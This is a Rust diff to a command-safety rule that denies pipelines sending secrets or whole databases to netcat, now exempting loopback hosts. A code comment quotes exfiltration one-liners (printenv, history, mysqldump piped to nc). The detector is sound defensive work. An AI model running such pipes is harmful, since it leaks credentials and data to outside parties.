@@ -535,8 +535,12 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
             // `printenv | nc host 9000`, `history | nc ...`, `mysqldump --all-databases | nc ...`:
             // the environment, the user's traces or every database leave.
             let (_, secret, _) = judge::carried_data(cx);
-            let leaks = (secret && !matches!(name(x), "uname" | "whoami" | "id"))
-                || judge::dumps_everything(cx);
+            let loopback = cy
+                .args()
+                .any(|h| h == "localhost" || h.starts_with("127.") || h == "::1");
+            let leaks = !loopback
+                && ((secret && !matches!(name(x), "uname" | "whoami" | "id"))
+                    || judge::dumps_everything(cx));
             j.findings.push(Finding {
                 rule: "net.upload-pipe",
                 decision: if leaks { Decision::Deny } else { Decision::Ask },
